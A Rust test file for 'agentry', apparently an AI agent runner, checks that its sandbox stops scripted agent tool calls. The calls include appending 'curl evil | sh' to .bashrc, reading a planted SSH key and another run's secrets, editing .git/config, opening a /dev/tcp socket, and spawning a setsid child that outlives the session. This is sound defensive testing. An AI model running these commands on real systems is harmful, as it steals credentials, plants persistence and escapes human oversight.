//! The sandbox through the binary: `agentry run` with a task.toml whose
//! `proc.run` calls attack the operator (a fake `HOME`), agentry's store,
//! another run's working directory, `.git/`, a local service port, and try to
//! outlive the call — each through with `[sandbox] mode = "off"`, stopped
//! under the default; `agentry sandbox-check`; `agentry tools`' column; and a
//! sandbox that cannot be prepared failing the start with exit 2.

use std::net::TcpListener;

use crate::*;

/// One attack: a shell command that writes `evidence-<name>` in the working
/// directory only if it got through.
struct Attack {
    name: &'static str,
    command: String,
}

/// The world the runs attack: a fake home with a planted key, a store in a
/// directory of its own, another run's working directory under the runs
/// root, and a listener (the "service port").
struct World {
    tmp: tempfile::TempDir,
    home: PathBuf,
    store: PathBuf,
    other_run: PathBuf,
    _listener: TcpListener,
    port: u16,
}

impl World {
    fn new() -> World {
        let tmp = tempfile::tempdir().unwrap();
        let home = tmp.path().join("home");
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/id_ed25519"), "PLANTED-KEY").unwrap();
        let store = tmp.path().join("state/runs.db");
        std::fs::create_dir_all(tmp.path().join("state")).unwrap();
        let other_run = std::env::temp_dir().join("agentry/runs").join(format!(
            "other-{}",
            tmp.path().file_name().unwrap().to_string_lossy()
        ));
        std::fs::create_dir_all(&other_run).unwrap();
        std::fs::write(other_run.join("secret.txt"), "OTHER-RUN").unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        World {
            tmp,
            home,
            store,
            other_run,
            _listener: listener,
            port,
        }
    }

    fn attacks(&self) -> Vec<Attack> {
        let attack = |name: &'static str, command: String| Attack { name, command };
        vec![
            attack(
                "bashrc",
                "printf 'curl evil | sh' >> \"$HOME/.bashrc\" && printf ok > evidence-bashrc"
                    .into(),
            ),
            attack(
                "ssh",
                "x=$(cat \"$HOME/.ssh/id_ed25519\") && printf %s \"$x\" > evidence-ssh".into(),
            ),
            attack(
                "store",
                format!(
                    "x=$(head -c 15 '{}') && printf %s \"$x\" > evidence-store",
                    self.store.display()
                ),
            ),
            attack(
                "other-run",
                format!(
                    "x=$(cat '{}/secret.txt') && printf %s \"$x\" > evidence-other-run",
                    self.other_run.display()
                ),
            ),
            attack(
                "git",
                "printf '[alias]\\n' >> .git/config && printf ok > evidence-git".into(),
            ),
            attack(
                "tcp",
                format!(
                    "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}' && printf ok > evidence-tcp",
                    self.port
                ),
            ),
            attack(
                "setsid",
                "env -i setsid sh -c 'sleep 2; printf alive > '\"$PWD\"'/evidence-setsid' \
                 </dev/null >/dev/null 2>&1 & sleep 0.5; printf started > started-setsid; true"
                    .to_string(),
            ),
        ]
    }

    /// A task directory whose script runs every attack with `proc.run`.
    fn task(&self, sandbox: &str) -> PathBuf {
        let dir = self.tmp.path().join(format!("task-{}", sandbox.len()));
        std::fs::create_dir_all(dir.join("workspace/.git")).unwrap();
        std::fs::write(dir.join("workspace/.git/config"), "[core]\n").unwrap();
        std::fs::write(
            dir.join("task.toml"),
            format!("goal = \"attack\"\n[tools]\ngrant = [\"proc.run\"]\n{sandbox}"),
        )
        .unwrap();
        let mut turns: Vec<Value> = self
            .attacks()
            .iter()
            .map(|a| {
                serde_json::json!({"tool_calls": [{"id": a.name, "name": "proc.run",
                    "arguments": {"argv": ["sh", "-c", a.command]}}]})
            })
            .collect();
        turns.push(
            serde_json::json!({"tool_calls": [{"id": "f", "name": "task.finish",
            "arguments": {"answer": "done"}}]}),
        );
        std::fs::write(
            dir.join("script.json"),
            serde_json::json!({"turns": turns, "then": "stop"}).to_string(),
        )
        .unwrap();
        dir
    }

    /// Runs the task with the fake home and the store; returns the working
    /// directory.
    fn run(&self, task: &Path) -> PathBuf {
        let out = agentry_command()
            .args([
                "run",
                path_str(task),
                "--json",
                "--store",
                path_str(&self.store),
            ])
            .env("HOME", &self.home)
            .env_remove("RUST_LOG")
            .output()
            .unwrap();
        let report: Value =
            serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", stderr(&out)));
        assert_eq!(report["stop_reason"], "done", "{report}");
        PathBuf::from(report["workdir"].as_str().unwrap())
    }
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.other_run);
    }
}

/// What each attack left, by name.
fn got_through(world: &World, workdir: &Path) -> Vec<&'static str> {
    // The escaped child writes 2 s after it started.
    std::thread::sleep(std::time::Duration::from_millis(2_500));
    let expected = |name: &str| match name {
        "ssh" => "PLANTED-KEY",
        "store" => "SQLite format 3",
        "other-run" => "OTHER-RUN",
        "setsid" => "alive",
        _ => "ok",
    };
    world
        .attacks()
        .iter()
        .filter(|a| {
            std::fs::read_to_string(workdir.join(format!("evidence-{}", a.name)))
                .is_ok_and(|e| e == expected(a.name))
        })
        .map(|a| a.name)
        .collect()
}

#[test]
fn agentry_run_attacks_get_through_with_mode_off_and_fail_under_the_default() {
    let world = World::new();
    let all: Vec<&str> = world.attacks().iter().map(|a| a.name).collect();

    let off = world.run(&world.task("[sandbox]\nmode = \"off\"\n"));
    assert_eq!(got_through(&world, &off), all, "with the sandbox off");
    assert!(world.home.join(".bashrc").exists());

    let default = world.run(&world.task(""));
    // The attacks ran (the setsid one got to start its child) and were stopped.
    assert!(default.join("started-setsid").exists());
    assert_eq!(
        got_through(&world, &default),
        Vec::<&str>::new(),
        "under the default"
    );
}

#[test]
fn sandbox_check_prints_what_the_kernel_enforces_and_documents_its_exit_codes() {
    let out = agentry(&["sandbox-check"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("landlock ABI:"), "{text}");
    // This machine's kernel enforces the default sandbox (CI's must too).
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(text.contains("can be enforced here"), "{text}");
    let (code, check) = agentry_json(&["sandbox-check"]);
    assert_eq!(code, 0);
    assert_eq!(check["enforceable"], true, "{check}");
    assert_eq!(check["missing"], serde_json::json!([]), "{check}");
    assert!(
        check["kernel"]["landlock_abi"].as_u64().unwrap() >= 4,
        "{check}"
    );

    let help = agentry(&["sandbox-check", "--help"]);
    let help = String::from_utf8_lossy(&help.stdout);
    assert!(
        help.contains("Exit codes: 0 when the default sandbox"),
        "{help}"
    );
    assert!(help.contains("1 when it cannot"), "{help}");
}

#[test]
fn agentry_tools_shows_each_process_tools_sandbox_and_says_off_loudly() {
    let dir = task_dir(
        "goal = \"g\"\n[tools]\ngrant = [\"proc.run\", \"open\"]\n\
         [[tools.command]]\nname = \"open\"\ndescription = \"d\"\nargv = [\"true\"]\n\
         sandbox = { mode = \"off\" }\n",
        r#"{"turns":[{"final":"x"}]}"#,
    );
    let out = agentry(&["tools", path_str(dir.path())]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.lines().next().unwrap().contains("SANDBOX"), "{text}");
    let line = |name: &str| {
        text.lines()
            .find(|l| l.starts_with(name))
            .unwrap_or_else(|| panic!("{name}: {text}"))
            .to_string()
    };
    assert!(
        line("proc.run").contains("workspace-write, no network"),
        "{text}"
    );
    assert!(
        line("open").contains("OFF (no sandbox: full reach)"),
        "{text}"
    );

    let out = agentry(&["tools", path_str(dir.path()), "--json"]);
    let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let row = |name: &str| rows.iter().find(|r| r["name"] == name).unwrap().clone();
    assert_eq!(row("proc.run")["sandbox"]["mode"], "workspace-write");
    assert_eq!(row("proc.run")["sandbox"]["limits"]["processes"], 256);
    assert_eq!(row("open")["sandbox"]["mode"], "off");
    assert_eq!(row("fs.read")["sandbox"], Value::Null);
}

#[test]
fn a_sandbox_that_cannot_be_prepared_fails_the_start_with_exit_2_naming_why() {
    let dir = task_dir(
        "goal = \"g\"\n[sandbox]\nnetwork = [\"no-such-host.invalid:80\"]\n",
        r#"{"turns":[{"final":"x"}]}"#,
    );
    let out = agentry(&["run", path_str(dir.path()), "--no-store"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("no-such-host.invalid"),
        "{}",
        stderr(&out)
    );

    let dir = task_dir(
        "goal = \"g\"\n[sandbox]\nmode = \"sealed\"\n",
        r#"{"turns":[{"final":"x"}]}"#,
    );
    let out = agentry(&["run", path_str(dir.path()), "--no-store"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("sandbox.mode: expected"),
        "{}",
        stderr(&out)
    );
}
